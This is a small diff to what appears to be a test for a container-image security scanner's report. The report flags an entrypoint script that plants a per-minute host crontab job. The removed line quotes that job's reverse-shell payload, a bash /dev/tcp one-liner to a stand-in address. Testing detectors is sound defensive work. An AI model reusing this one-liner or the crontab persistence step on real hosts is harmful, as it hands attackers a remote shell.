@@ -61,7 +61,7 @@ test('the page for a stranger', () => {
     ## If you run it
 
     - \`ENTRYPOINT /bin/sh /run.sh\` (\`/run.sh\`, layer 3, COPY \`file:4f\` in \`/run.sh\`)
-      - **malicious:** adds a job to the HOST's crontab, through \`/mnt/etc\` (every minute): bash \`-i >& /dev/tcp/192.0.2.44/8443 0>&1\` (\`run.sh:4\`)
+      - **malicious:** adds a job to the HOST's crontab, through \`/mnt/etc\` (every minute) (\`run.sh:4\`)
         - **suspicious:** hands an interactive bash to \`192.0.2.44:8443\` (reverse shell) (\`run.sh:4\`)
     - \`HEALTHCHECK /usr/bin/probe\` starts the program \`/usr/bin/probe\` (config Healthcheck)
 
